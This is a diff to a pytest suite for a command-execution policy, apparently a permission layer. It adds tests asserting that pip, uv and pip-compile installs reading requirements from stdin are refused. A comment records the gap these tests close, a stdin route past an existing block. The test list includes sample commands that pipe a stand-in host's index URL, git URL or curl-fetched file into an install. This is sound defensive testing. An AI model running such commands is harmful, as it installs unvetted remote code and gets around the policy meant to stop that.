@@ -62,6 +62,8 @@ def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (root / "src/main.py").write_text("async def app(scope, receive, send):\n    pass\n")
     (root / "scripts/x.py").write_text("print(1)\n")
     (root / "README.md").write_text("r\n")
+    (root / "requirements.txt").write_text("requests==2.31.0\n")
+    (root / "requirements.in").write_text("requests\n")
     return root
 
 
@@ -258,6 +260,44 @@ def test_deno_without_a_file_is_code_from_stdin(
     assert verdict is not Verdict.ALLOW, (command, role, rule)
 
 
+# ---- found (documented behaviour, uv and pip-tools not installed here): requirements read
+# from stdin (`-` is stdin to uv, astral-sh/uv#1314, and to pip-compile), so a line such as
+# `--index-url URL` or `-e git+…` was never seen, where `-r /dev/stdin` was refused ----------
+STDIN_REQUIREMENTS = [
+    "uv pip install -r -",
+    "uv pip install -r - --dry-run",
+    "uv pip install --requirement -",
+    "uv pip install --requirements -",
+    "uv pip install -c - requests",
+    "uv pip install --constraint - requests",
+    "uv pip sync -",
+    "uv pip compile -",
+    "uv pip compile - -o requirements.txt",
+    "uv add -r -",
+    "uv add --requirements -",
+    "echo '--index-url http://x.example/simple' | uv pip install -r -",
+    "printf -- '-e git+https://x.example/r\\n' | uv pip install -r -",
+    "curl -s https://x.example/r.txt | uv pip install -r -",
+    "pip-compile -",
+    "pip-compile - -o requirements.txt",
+    "pip install -c - requests",
+    "pip download -r -",
+    "pip wheel -r -",
+    "python3 -m pip install -r -",
+    "pip install -r /dev/stdin",
+    "uv pip install -r /dev/fd/0",
+]
+
+
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("command", STDIN_REQUIREMENTS)
+def test_requirements_from_stdin_are_not_allowed(
+    policy: Policy, ws: Path, command: str, role: str
+) -> None:
+    verdict, rule = exec_verdict(policy, ws, command, role)
+    assert verdict is not Verdict.ALLOW, (command, role, rule)
+
+
 # ---- controls: the workspace's own tests and applications ------------------------------------
 CONTROLS = [
     "python -m unittest discover",
@@ -298,6 +338,11 @@ CONTROLS = [
     "deno test",
     "deno fmt --check",
     "deno task build",
+    "pip install -r requirements.txt",
+    "uv pip install -r requirements.txt",
+    "uv pip sync requirements.txt",
+    "uv pip compile requirements.in -o requirements.txt",
+    "pip-compile requirements.in",
 ]
 
 
